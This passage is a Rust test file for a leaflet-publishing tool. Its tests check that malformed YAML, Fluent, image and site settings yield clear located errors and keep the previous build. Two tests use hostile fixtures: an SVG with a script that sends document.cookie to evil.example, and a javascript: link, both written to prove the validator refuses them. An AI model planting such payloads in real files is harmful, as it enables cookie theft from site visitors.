//! Every bad input: a clear message with file:line:col and a hint, and the right exit code.
//!
//! A mistake in the sources is found by `leaflet check`, which needs no typst and writes nothing,
//! so those cases run `check`. A few cases run a full `build`, to prove that a failed build leaves
//! the previous dist/ byte for byte as it was and no staging folder behind: the typst failures,
//! which only a build meets, an output folder that is not a build, and two source errors, for
//! which `check` must report exactly what the build reported.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use crate::common::{Project, Run, assert_run_snapshot, folders, require_typst, tree};

/// A fresh copy of the fixture, broken by `change`, then `leaflet check`.
pub(crate) fn checked(change: impl FnOnce(&Project)) -> Run {
    checked_with(&["check"], change)
}

/// Like `checked`, with more arguments: the run fails, without typst, and writes nothing.
fn checked_with(args: &[&str], change: impl FnOnce(&Project)) -> Run {
    let project = Project::fixture("minimal");
    change(&project);
    let run = check_writes_nothing(&project, args);
    assert!(!project.path("dist").exists(), "check wrote dist/");
    run
}

/// Runs `check`, which must fail without writing anything (not even an empty folder). typst is
/// out of reach (LEAFLET_TYPST names no file), so a check that reached for it would fail with
/// "cannot run typst" and exit code 2 instead of the expected message.
fn check_writes_nothing(project: &Project, args: &[&str]) -> Run {
    let files = tree(&project.root);
    let dirs = folders(&project.root);
    let no_typst = project.path("no-typst-here");
    let run = project.leaflet_with_env(args, &[("LEAFLET_TYPST", &no_typst)]);
    assert_ne!(
        run.code, 0,
        "the broken project passed check:\n{}",
        run.stderr
    );
    assert!(
        tree(&project.root) == files && folders(&project.root) == dirs,
        "check changed the project:\n{}",
        run.stderr
    );
    run
}

/// The fixture, built once, so that there is a previous dist/ for a failed build to keep.
fn built() -> (Project, BTreeMap<PathBuf, Vec<u8>>) {
    require_typst();
    let project = Project::fixture("minimal");
    project.build().assert_code(0);
    let before = project.dist();
    assert!(!before.is_empty());
    (project, before)
}

/// A build that must fail: it leaves dist/ exactly as it was, says so, and leaves no staging
/// folder behind.
fn failed_build(
    project: &Project,
    before: &BTreeMap<PathBuf, Vec<u8>>,
    env: &[(&str, &Path)],
) -> Run {
    let run = project.leaflet_with_env(&["build"], env);
    assert_ne!(run.code, 0, "the broken project built:\n{}", run.stderr);
    assert!(
        project.dist() == *before,
        "a failed build changed dist/:\n{}",
        run.stderr
    );
    run.assert_stderr("was left as it was");
    let leftovers: Vec<_> = std::fs::read_dir(&project.root)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with(".dist"))
        .collect();
    assert!(leftovers.is_empty(), "staging folders left behind");
    run
}

/// Builds the fixture, breaks it with `change`, builds again: the build fails and keeps dist/.
fn broken_build(change: impl FnOnce(&Project)) -> Run {
    let (project, before) = built();
    change(&project);
    failed_build(&project, &before, &[])
}

/// Like `broken_build`, for a source error: `check` then reports the same diagnostics, with the
/// same exit code, and writes nothing.
pub(crate) fn broken_build_and_check(change: impl FnOnce(&Project)) -> Run {
    let (project, before) = built();
    change(&project);
    let build = failed_build(&project, &before, &[]);
    let check = check_writes_nothing(&project, &["check"]);
    assert_eq!(check.code, build.code, "{}", check.stderr);
    assert_eq!(
        diagnostics(&check.stderr),
        diagnostics(&build.stderr),
        "check and build report differently"
    );
    build
}

/// Everything but the last line, the summary, which names the command ("check failed (…)",
/// "build failed; … was left as it was (…)").
fn diagnostics(stderr: &str) -> &str {
    let text = stderr.trim_end();
    let last = text.rfind('\n').expect("diagnostics and a summary line");
    &text[..last]
}

#[test]
fn malformed_yaml() {
    let run = broken_build_and_check(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "body:\n",
            "body: [oops\n  x: {\n",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: invalid YAML in leaflets/test-folder.yaml")
        .assert_stderr("leaflets/test-folder.yaml:8:4")
        .assert_stderr("hint: check the indentation");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn unknown_key_in_a_leaflet() {
    let run = checked(|p| p.edit("leaflets/test-folder.yaml", "version: 2", "versoin: 2"));
    run.assert_code(1)
        .assert_stderr("unknown field `versoin`")
        .assert_stderr("leaflets/test-folder.yaml:2:1")
        .assert_stderr("hint: did you mean \"version\"?");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_misspelt_key_in_a_lock_file_is_named_where_it_is() {
    // An entry of a lock file is a fingerprint or a map: a map's mistake is named at its key,
    // not as "did not match any variant" at the entry's first line. The build stops (its
    // translations cannot be trusted as confirmed) and keeps dist/.
    let run = broken_build_and_check(|p| {
        p.edit(
            "locales/en/translations.lock.yaml",
            "      source: Contact\n",
            "      sorce: Contact\n",
        )
    });
    run.assert_code(1)
        .assert_stderr(
            "error: invalid YAML in locales/en/translations.lock.yaml: unknown field `sorce`",
        )
        .assert_stderr("locales/en/translations.lock.yaml:8:7")
        .assert_stderr("hint: did you mean \"source\"?");
}

#[test]
fn questions_box_that_is_not_true_or_false() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "body:\n",
            "questions_box: maybe\nbody:\n",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: invalid YAML in leaflets/test-folder.yaml: invalid boolean")
        .assert_stderr("leaflets/test-folder.yaml:7:16")
        .assert_stderr("hint: this setting is on or off: write `true` or `false`");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn unknown_key_in_a_block() {
    let run = checked(|p| p.edit("leaflets/test-folder.yaml", "- text: intro", "- txt: intro"));
    run.assert_code(1)
        .assert_stderr("unknown field `txt`")
        .assert_stderr("leaflets/test-folder.yaml:8:5")
        .assert_stderr("did you mean \"text\"?");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn unknown_shared_block() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "use: when-to-call",
            "use: when-to-cal",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: unknown shared block \"when-to-cal\"")
        .assert_stderr("leaflets/test-folder.yaml:11:10")
        .assert_stderr("hint: did you mean \"when-to-call\"?");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn cycle_between_shared_blocks() {
    let run = checked(|p| {
        let text = p.read("leaflets/shared/phone-hours.yaml");
        p.write(
            "leaflets/shared/phone-hours.yaml",
            &format!("{text}  - use: when-to-call\n"),
        );
    });
    run.assert_code(1)
        .assert_stderr(
            "shared block \"when-to-call\" uses itself: when-to-call → phone-hours → when-to-call",
        )
        .assert_stderr("leaflets/shared/phone-hours.yaml:3:10")
        .assert_stderr("hint: a shared block cannot use a block that uses it back");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn unknown_contact() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "contact: demo/poli",
            "contact: demo/polli",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: unknown contact \"demo/polli\"")
        .assert_stderr("leaflets/test-folder.yaml:6:10")
        .assert_stderr("hint: did you mean \"demo/poli\"?");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn message_missing_in_the_default_locale() {
    let run = broken_build_and_check(|p| {
        p.edit("locales/nl/test-folder.ftl", "steps-title = Stappen\n", "")
    });
    run.assert_code(1)
        .assert_stderr("error: message \"steps-title\" is missing in the default language (nl)")
        .assert_stderr("leaflets/test-folder.yaml:9:14")
        .assert_stderr("hint: add `steps-title = …` to locales/nl/test-folder.ftl");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_misspelt_message_id_is_named() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "department: department-demo",
            "department: department-dmeo",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: message \"department-dmeo\" is missing in the default language (nl)")
        .assert_stderr("hint: did you mean \"department-demo\" (locales/nl/site.ftl:")
        .assert_stderr(")? If that id is the misspelt one, correct it there; or add `department-dmeo = …` to locales/nl/site.ftl");
}

#[test]
fn shared_block_message_missing_points_at_the_block_and_names_its_file() {
    let run = checked(|p| {
        p.edit(
            "locales/nl/shared/when-to-call.ftl",
            "when-to-call-intro = Bel ons meteen als:\n",
            "",
        )
    });
    run.assert_code(1)
        .assert_stderr("leaflets/shared/when-to-call.yaml:4:13")
        .assert_stderr("add `when-to-call-intro = …` to locales/nl/shared/when-to-call.ftl")
        .assert_stderr("used by leaflet leaflets/test-folder.yaml");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_utf16_file_is_one_error() {
    // Notepad's "Unicode" is UTF-16: one clear error, not one per letter.
    let run = checked(|p| {
        let text = p.read("locales/en/test-folder.ftl");
        let bytes: Vec<u8> = [0xFF, 0xFE]
            .into_iter()
            .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
            .collect();
        std::fs::write(p.path("locales/en/test-folder.ftl"), bytes).unwrap();
    });
    run.assert_code(1)
        .assert_stderr("error: locales/en/test-folder.ftl is UTF-16 text, not UTF-8")
        .assert_stderr("check failed (1 error)");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_key_given_twice_says_so_in_plain_words() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "version: 2\n",
            "version: 2\nversion: 3\n",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: invalid YAML in leaflets/test-folder.yaml: the key `version` is given twice at the same level")
        .assert_stderr("leaflets/test-folder.yaml:3:1")
        .assert_stderr("hint: keep one `version:` and delete the other");
    assert!(!run.stderr.contains("DuplicateKeyPolicy"), "{}", run.stderr);
    assert_run_snapshot!(run.stderr);
}

#[test]
fn fluent_syntax_error() {
    let run = checked(|p| {
        let text = p.read("locales/nl/test-folder.ftl");
        p.write(
            "locales/nl/test-folder.ftl",
            &format!("{text}broken = {{ oops\n"),
        );
    });
    run.assert_code(1)
        .assert_stderr("error: Fluent syntax error in locales/nl/test-folder.ftl")
        .assert_stderr("locales/nl/test-folder.ftl:8:15")
        .assert_stderr("hint: a message is `id = text`");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_text_line_that_fluent_reads_as_syntax_says_so() {
    // "* item", "[note]" and ".5 mg" at the start of a continuation line are Fluent syntax
    // (variants, attributes): the error says what Fluent saw, at the character.
    let run = checked(|p| {
        let text = p.read("locales/nl/test-folder.ftl");
        p.write(
            "locales/nl/test-folder.ftl",
            &format!("{text}bring = Neem mee:\n    * uw medicijnen\nnote = Let op:\n    .5 mg is genoeg\nsplit =\n    **Proefimplantatie.** U ligt\n"),
        );
    });
    run.assert_code(1)
        .assert_stderr(
            "a line of text starts with `*`, which Fluent reads as a choice between variants",
        )
        .assert_stderr("locales/nl/test-folder.ftl:9:5")
        .assert_stderr("write {\"*\"} instead of the first *")
        .assert_stderr("a line of text starts with `.`, which Fluent reads as an attribute")
        .assert_stderr("locales/nl/test-folder.ftl:11:5")
        // The first text line under `id =` (Fluent itself points at the id there).
        .assert_stderr("locales/nl/test-folder.ftl:13:5");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn fluent_argument_missing() {
    let run = checked(|p| {
        p.edit(
            "locales/en/shared/when-to-call.ftl",
            "{ $wound }",
            "{ $wond }",
        )
    });
    run.assert_code(1)
        // One typo, one error: the translation's check against its source, which knows the
        // right name (the formatting error would say the same again).
        .assert_stderr("message \"when-to-call-fever\" in en uses the variable $wond, which its nl source does not have")
        .assert_stderr("locales/en/shared/when-to-call.ftl:3:50")
        .assert_stderr("did you mean \"$wound\"?");
    assert!(
        !run.stderr.contains("which is not given here"),
        "{}",
        run.stderr
    );
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_variable_the_leaflet_does_not_give_is_an_error_in_the_source_too() {
    let run = checked(|p| {
        p.edit(
            "locales/nl/shared/when-to-call.ftl",
            "{ $wound }",
            "{ $wond }",
        )
    });
    run.assert_code(1)
        .assert_stderr("message \"when-to-call-fever\" uses the variable $wond, which is not given here (leaflet test-folder, nl)")
        .assert_stderr("locales/nl/shared/when-to-call.ftl:3:")
        .assert_stderr("did you mean \"$wound\"?");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn id_that_is_not_a_slug() {
    let run = checked(|p| {
        p.rename("leaflets/test-folder.yaml", "leaflets/Test Folder.yaml");
        p.rename("locales/nl/test-folder.ftl", "locales/nl/Test Folder.ftl");
        p.rename("locales/en/test-folder.ftl", "locales/en/Test Folder.ftl");
    });
    run.assert_code(1)
        .assert_stderr("error: leaflet id \"Test Folder\" is not a slug")
        .assert_stderr("leaflets/Test Folder.yaml:1:1")
        .assert_stderr(
            "hint: the id is the file name; rename leaflets/Test Folder.yaml to test-folder.yaml",
        );
    assert_run_snapshot!(run.stderr);
}

#[test]
fn typst_missing() {
    let (project, before) = built();
    let nowhere = project.path("no-such-typst");
    let run = failed_build(&project, &before, &[("LEAFLET_TYPST", &nowhere)]);
    run.assert_code(2)
        .assert_stderr("error: cannot run typst")
        .assert_stderr("it is not installed or not on PATH")
        .assert_stderr("cargo install --locked typst-cli@0.15.1");
    assert_run_snapshot!(run.stderr);
}

#[cfg(unix)]
#[test]
fn typst_of_the_wrong_version() {
    use std::os::unix::fs::PermissionsExt;
    let (project, before) = built();
    let fake = project.path("old-typst");
    std::fs::write(&fake, "#!/bin/sh\necho 'typst 0.13.1 (8ace67d9)'\n").unwrap();
    std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    let run = failed_build(&project, &before, &[("LEAFLET_TYPST", &fake)]);
    run.assert_code(2)
        .assert_stderr("typst 0.15.x is needed, but")
        .assert_stderr("says \"typst 0.13.1 (8ace67d9)\"")
        .assert_stderr("cargo install --locked typst-cli@0.15.1");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn typst_compile_failure() {
    let run = broken_build(|p| {
        p.write(
            "templates/leaflet.typ",
            "#let doc = json(\"/\" + sys.inputs.data)\n#let x = (\n",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: typst failed to make the office PDF of test-folder (en)")
        .assert_stderr("error: typst failed to make the office PDF of test-folder (nl)")
        .assert_stderr("typst: templates/leaflet.typ:2:")
        .assert_stderr("unclosed delimiter")
        .assert_stderr("leaflets/test-folder.yaml:1:1");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn block_with_two_kinds() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "  - text: intro\n",
            "  - text: intro\n    heading: steps-title\n",
        )
    });
    run.assert_code(1)
        .assert_stderr("this block has 2 kinds at once: heading, text")
        .assert_stderr("leaflets/test-folder.yaml:8:5");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn bad_date() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "reviewed: 2026-01-15",
            "reviewed: 15-01-2026",
        )
    });
    run.assert_code(1)
        .assert_stderr("\"15-01-2026\" is not a date")
        .assert_stderr("leaflets/test-folder.yaml:3:11")
        .assert_stderr("hint: write dates as YYYY-MM-DD");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn block_markdown_inside_a_message() {
    let run = checked(|p| {
        p.edit(
            "locales/en/test-folder.ftl",
            "step-two = **Step two.**",
            "step-two = - **Step two.**",
        )
    });
    run.assert_code(1)
        .assert_stderr("message \"step-two\" starts a line with \"-\", which Markdown reads as a bulleted list")
        .assert_stderr("locales/en/test-folder.ftl:6:1")
        .assert_stderr("hint: to show \"-\" as text, write it with a backslash: \"\\-\"");
    assert_run_snapshot!(run.stderr);
}

/// "1." typed at the start of a message is a numbered list to Markdown: the hint names the
/// characters, their escape, and the blocks that number for you.
#[test]
fn a_message_that_starts_with_a_number_and_a_full_stop() {
    let run = checked(|p| {
        p.edit(
            "locales/nl/test-folder.ftl",
            "steps-title = Stappen",
            "steps-title = 1. Stappen",
        )
    });
    run.assert_code(1)
        .assert_stderr("message \"steps-title\" starts a line with \"1.\", which Markdown reads as a numbered list")
        .assert_stderr("locales/nl/test-folder.ftl:4:1")
        .assert_stderr("hint: to show \"1.\" as text, write it with a backslash: \"1\\.\"; for numbered steps use a `steps:` block, for numbered headings `numbering: true`");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn unknown_callout_level() {
    let run = broken_build_and_check(|p| {
        p.edit(
            "leaflets/shared/when-to-call.yaml",
            "      text: when-to-call-intro",
            "      level: urgnet\n      text: when-to-call-intro",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: unknown callout level \"urgnet\"")
        .assert_stderr("leaflets/shared/when-to-call.yaml:4:14")
        .assert_stderr("hint: did you mean \"urgent\"? A callout's level is info (the default), urgent or emergency");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_emergency_callout_without_an_emergency_number() {
    let run = checked(|p| {
        p.edit(
            "leaflets/shared/when-to-call.yaml",
            "      text: when-to-call-intro",
            "      level: emergency\n      text: when-to-call-intro",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: an emergency callout needs the emergency number, and site.yaml has none")
        .assert_stderr("leaflets/shared/when-to-call.yaml:4:14")
        .assert_stderr("hint: add the number people call in an emergency to site.yaml, e.g. `emergency_number: \"112\"`");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_emergency_number_that_is_not_one() {
    let run = checked(|p| {
        p.edit(
            "site.yaml",
            "locales: [nl, en]\n",
            "locales: [nl, en]\nemergency_number: \"call 112\"\n",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: emergency_number \"call 112\" is not a phone number")
        .assert_stderr("site.yaml:3:19");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn numbering_that_is_not_true_or_false() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "owner: Demo poli",
            "owner: Demo poli\nnumbering: ja",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: invalid YAML in leaflets/test-folder.yaml: invalid boolean")
        .assert_stderr("leaflets/test-folder.yaml:15:12")
        .assert_stderr("hint: this setting is on or off: write `true` or `false`");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn script_link_in_a_message() {
    let run = checked(|p| {
        p.edit(
            "locales/en/test-folder.ftl",
            "(https://example.org)",
            "(javascript:alert(1))",
        )
    });
    run.assert_code(1)
        .assert_stderr("links to \"javascript:alert(1)\"; only https://, http://, mailto:, tel: and leaflet: links are allowed")
        .assert_stderr("locales/en/test-folder.ftl:3:62");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn message_defined_twice_in_one_bundle() {
    let run = checked(|p| {
        let text = p.read("locales/nl/shared/contact.ftl");
        p.write(
            "locales/nl/shared/contact.ftl",
            &format!("{text}intro = Dubbel\n"),
        );
    });
    run.assert_code(1)
        .assert_stderr("message \"intro\" is defined twice")
        .assert_stderr("locales/nl/");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn unknown_locale_on_the_command_line_is_a_usage_error() {
    let run = checked_with(&["check", "--locale", "fr"], |_| {});
    run.assert_code(2)
        .assert_stderr("--locale fr: the site has no such language")
        .assert_stderr("the site's languages are: nl, en");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn missing_site_yaml() {
    let run = checked(|p| p.remove("site.yaml"));
    run.assert_code(1)
        .assert_stderr("failed to read site.yaml (file not found)")
        .assert_stderr("pass --root DIR");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn image_without_alt_text() {
    let run = checked(|p| {
        p.write(
            "images/wound.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"/>",
        );
        p.edit(
            "leaflets/test-folder.yaml",
            "  - text: intro\n",
            "  - text: intro\n  - image: { file: images/wound.svg }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: image \"images/wound.svg\" has no text alternative (alt)")
        .assert_stderr("leaflets/test-folder.yaml:9:5")
        .assert_stderr("hint: add `alt: <message-id>`");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_svg_picture_with_script_is_refused_and_dist_kept() {
    // Opened on its own, an SVG runs its script: a published picture must be only a picture.
    let run = broken_build_and_check(|p| {
        p.write(
            "images/wound.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\">\n  <rect width=\"1\" height=\"1\"/>\n  <script>fetch('https://evil.example/?'+document.cookie)</script>\n</svg>\n",
        );
        p.edit(
            "leaflets/test-folder.yaml",
            "  - text: intro\n",
            "  - text: intro\n  - image: { file: images/wound.svg, alt: intro }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: picture images/wound.svg contains a <script> element, which is not allowed in a published picture")
        .assert_stderr("images/wound.svg:3:3")
        .assert_stderr("hint: export the picture again as plain SVG");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_picture_that_is_not_what_its_name_says_is_refused() {
    // A text file, or a JPEG, saved as .png: typst would stop in the middle of the build.
    let run = checked(|p| {
        p.write("images/wound.png", "this is not a picture\n");
        std::fs::write(
            p.path("images/photo.png"),
            b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",
        )
        .unwrap();
        p.edit(
            "leaflets/test-folder.yaml",
            "  - text: intro\n",
            "  - text: intro\n  - image: { file: images/wound.png, alt: intro }\n  - image: { file: images/photo.png, alt: intro }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: picture images/wound.png is not a PNG file: it is text")
        .assert_stderr("images/wound.png:1:1")
        .assert_stderr("error: picture images/photo.png is not a PNG file: it is a JPEG picture")
        .assert_stderr("hint: save the picture again as PNG or JPEG");
    assert_run_snapshot!(run.stderr);
}

/// A small real PNG, made with the `png` crate.
fn png_bytes() -> Vec<u8> {
    let mut out = Vec::new();
    let mut encoder = png::Encoder::new(&mut out, 2, 2);
    encoder.set_color(png::ColorType::Rgb);
    encoder.set_depth(png::BitDepth::Eight);
    let mut writer = encoder.write_header().unwrap();
    writer.write_image_data(&[200u8; 12]).unwrap();
    writer.finish().unwrap();
    out
}

#[test]
fn a_cut_off_png_is_refused_and_a_whole_one_passes() {
    // A download cut off halfway has a good header: only decoding it finds the missing end.
    let whole = png_bytes();
    let run = checked(|p| {
        std::fs::create_dir_all(p.path("images")).unwrap();
        std::fs::write(p.path("images/whole.png"), &whole).unwrap();
        std::fs::write(p.path("images/cut.png"), &whole[..whole.len() - 20]).unwrap();
        p.edit(
            "leaflets/test-folder.yaml",
            "  - text: intro\n",
            "  - text: intro\n  - image: { file: images/whole.png, alt: intro }\n  - image: { file: images/cut.png, alt: intro }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: picture images/cut.png is a damaged PNG file")
        .assert_stderr("images/cut.png:1:1")
        .assert_stderr("hint: save the picture again");
    assert!(!run.stderr.contains("whole.png"), "{}", run.stderr);
}

#[test]
fn two_leaflets_with_one_document_code() {
    // A copied leaflet, or an imported one whose made-up code was left: a printed leaflet must
    // be traceable by its code.
    let run = checked(|p| {
        let copy = p.read("leaflets/test-folder.yaml");
        p.write("leaflets/second.yaml", &copy);
        let texts = p.read("locales/nl/test-folder.ftl");
        p.write("locales/nl/second.ftl", &texts);
    });
    run.assert_code(1)
        .assert_stderr("leaflet \"test-folder\" has the document code TEST-1")
        .assert_stderr("which leaflet \"second\" has too")
        .assert_stderr("leaflets/test-folder.yaml:1:7")
        .assert_stderr("hint: every leaflet needs a code of its own");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn image_file_missing() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "  - text: intro\n",
            "  - text: intro\n  - image: { file: images/nope.png, alt: intro }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: image file \"images/nope.png\" does not exist")
        .assert_stderr("leaflets/test-folder.yaml:9:20");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn theme_colour_with_too_little_contrast() {
    let run = checked(|p| {
        let site = p.read("site.yaml");
        p.write(
            "site.yaml",
            &format!("{site}theme:\n  primary_color: \"#7fb2d9\"\n"),
        );
    });
    run.assert_code(1)
    .assert_stderr("error: theme.primary_color \"#7fb2d9\" has a contrast of 2.26:1 against white; text needs at least 4.5:1")
    .assert_stderr("site.yaml:13:18")
    .assert_stderr("hint: choose a darker colour");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn print_profile_that_does_not_exist() {
    let run = checked(|p| {
        let site = p.read("site.yaml");
        p.write(
            "site.yaml",
            &format!("{site}print:\n  web: ofice\n  profiles:\n    office: {{ paper: a4 }}\n    shop: {{ paper: b5 }}\n"),
        );
    });
    run.assert_code(1)
        .assert_stderr("print.web names the profile \"ofice\", which is not in print.profiles")
        .assert_stderr("site.yaml:13:8")
        .assert_stderr("did you mean \"office\"?")
        .assert_stderr("unknown paper size \"b5\"")
        .assert_stderr("site.yaml:16:20");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_output_folder_that_is_not_a_build_is_never_replaced() {
    require_typst();
    let project = Project::fixture("minimal");
    let (files, dirs) = (tree(&project.root), folders(&project.root));
    for (out, name) in [
        (".", "out_is_the_project"),
        ("leaflets", "out_is_a_source_folder"),
        ("..", "out_holds_the_project"),
    ] {
        let target = project.root.join(out);
        let run = project.leaflet(&["build", "--out", target.to_str().unwrap()]);
        run.assert_code(2)
            .assert_stderr("refusing to write the site into");
        assert_run_snapshot!(name, run.stderr);
    }
    let foreign = project.path("elsewhere");
    std::fs::create_dir_all(&foreign).unwrap();
    std::fs::write(foreign.join("notes.txt"), "keep me").unwrap();
    let run = project.leaflet(&["build", "--out", foreign.to_str().unwrap()]);
    run.assert_code(2)
        .assert_stderr("already holds files that leaflet did not make");
    assert_run_snapshot!("out_holds_other_files", run.stderr);
    assert_eq!(
        std::fs::read_to_string(foreign.join("notes.txt")).unwrap(),
        "keep me"
    );
    std::fs::remove_dir_all(&foreign).unwrap();
    assert!(
        tree(&project.root) == files && folders(&project.root) == dirs,
        "the project changed"
    );
}

#[test]
fn a_logo_whose_text_is_missing() {
    let run = checked(|p| {
        p.write(
            "images/logo.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"/>",
        );
        p.edit(
            "site.yaml",
            "    name: Demo\n",
            "    name: Demo\n    logo: { file: images/logo.svg, alt: demo-logo }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("message \"demo-logo\" is missing in the default language (nl)")
        .assert_stderr("site.yaml:6:41");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_phone_number_or_portal_address_that_is_not_one() {
    let run = checked(|p| {
        p.edit(
            "site.yaml",
            "phone: \"050 345 67 89\"",
            "phone: \"call the desk\"",
        );
        p.edit(
            "site.yaml",
            "    name: Demo\n",
            "    name: Demo\n    portal: { name: MyDemo, url: \"www.demo.nl\" }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("\"call the desk\" is not a phone number")
        .assert_stderr("portal url \"www.demo.nl\" is not a web address")
        .assert_stderr("hint: write the full address, starting with https://");
    assert_run_snapshot!(run.stderr);
}

/// A digit too few in a contact's number would be printed on every leaflet that uses it:
/// libphonenumber's metadata catches it at the number in site.yaml, and the build leaves
/// dist/ as it was.
#[test]
fn a_contact_number_with_a_digit_too_few() {
    let run = broken_build_and_check(|p| {
        p.edit(
            "site.yaml",
            "phone: \"050 345 67 89\"",
            "phone: \"050 345 67 8\"",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: \"050 345 67 8\" is not a valid phone number in NL (9 digits)")
        .assert_stderr("site.yaml:9:16")
        .assert_stderr("hint: check the number digit by digit");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_subheading_without_a_heading_before_it() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "  - heading: steps-title",
            "  - subheading: steps-title",
        )
    });
    run.assert_code(1)
        .assert_stderr("the subheading \"steps-title\" comes before any heading")
        .assert_stderr("leaflets/test-folder.yaml:9:17");
    assert_run_snapshot!(run.stderr);
}

/// Puts `table` (YAML lines under `- table:`) after the first text of the fixture leaflet.
fn with_table(p: &Project, table: &str) {
    p.edit(
        "leaflets/test-folder.yaml",
        "  - text: intro\n",
        &format!("  - text: intro\n  - table:{table}"),
    );
}

#[test]
fn a_table_row_with_the_wrong_number_of_cells() {
    // A build: the previous dist/ stays as it was, and check says the same.
    let run = broken_build_and_check(|p| {
        with_table(
            p,
            "\n      caption: steps-title\n      header: [step-one, step-two]\n      rows:\n        - [intro, step-one]\n        - [intro]\n",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: row 2 of this table has 1 cell, but its header has 2 columns")
        .assert_stderr("leaflets/test-folder.yaml:14:11")
        .assert_stderr("hint: give every row one message id per column (2)");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_unknown_message_in_a_table_cell() {
    let run = checked(|p| {
        with_table(
            p,
            "\n      caption: steps-title\n      header: [step-one, step-two]\n      rows:\n        - [intro, step-tree]\n",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: message \"step-tree\" is missing in the default language (nl)")
        .assert_stderr("leaflets/test-folder.yaml:13:19")
        .assert_stderr("hint: add `step-tree = …` to locales/nl/test-folder.ftl");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_empty_table() {
    let run = checked(|p| with_table(p, " {}\n"));
    run.assert_code(1)
        .assert_stderr("error: this table is empty")
        .assert_stderr("leaflets/test-folder.yaml:9:5")
        .assert_stderr("hint: give it a caption, a header row and rows");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_table_without_caption_header_or_rows() {
    let run = checked(|p| with_table(p, "\n      header: []\n      rows: []\n"));
    run.assert_code(1)
        .assert_stderr("error: this table has no caption")
        .assert_stderr("error: the header row of this table is empty")
        .assert_stderr("leaflets/test-folder.yaml:10:15")
        .assert_stderr("error: this table has no rows")
        .assert_stderr("leaflets/test-folder.yaml:11:13");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_image_caption_without_alt_text() {
    let run = checked(|p| {
        p.write(
            "images/wound.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"/>",
        );
        p.edit(
            "leaflets/test-folder.yaml",
            "  - text: intro\n",
